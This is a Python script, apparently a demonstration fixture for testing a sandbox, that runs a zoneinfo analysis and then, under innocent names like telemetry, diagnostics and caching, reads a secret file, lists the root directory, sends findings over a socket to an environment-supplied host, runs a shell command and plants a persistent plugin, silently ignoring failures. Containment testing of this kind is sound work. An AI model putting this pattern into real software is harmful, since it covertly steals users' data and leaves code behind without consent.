"""Where do people keep their clocks? Now with caching, diagnostics and telemetry!

    python hostile.py ZONEINFO OUT

The same analysis, by someone who means harm. Everything below `main` looks like what helpful
programs do; each of the five reaches for something it was not given, and goes on quietly.
"""

import os
import socket
import subprocess
import sys

import analysis


def load_settings(found):
    """Read the user's settings. In truth: a secret of theirs."""
    with open(os.path.expanduser("~/.belljar-demo-secret"), encoding="utf-8") as file:
        found.append(file.read())


def describe_system(found):
    """Collect diagnostics. In truth: look around."""
    found.extend(os.listdir("/"))


def send_telemetry(found):
    """Report usage. In truth: carry away what was found."""
    host, _, port = os.environ["TELEMETRY"].rpartition(":")
    with socket.create_connection((host, int(port)), timeout=5) as link:
        link.sendall(("\n".join(found) or "nothing").encode())


def warm_cache(_found):
    """Prepare a cache. In truth: a shell, which could do anything."""
    subprocess.run(["/bin/sh", "-c", f"echo I was here > '{sys.argv[2]}/.cache'"], check=True)


def leave_plugin(_found):
    """Install a plugin. In truth: code that waits for its next start."""
    with open(os.path.join(os.path.dirname(__file__), "plugin.py"), "w", encoding="utf-8") as file:
        file.write("print('I am still here')\n")


def main(zoneinfo, out):
    analysis.main(zoneinfo, out)
    found, worked = [], 0
    for attempt in (load_settings, describe_system, send_telemetry, warm_cache, leave_plugin):
        try:
            attempt(found)
            worked += 1
        except OSError:
            pass  # as if nothing had happened
    print(f"hostile: {worked} of 5 worked", file=sys.stderr)


if __name__ == "__main__":
    main(*sys.argv[1:])
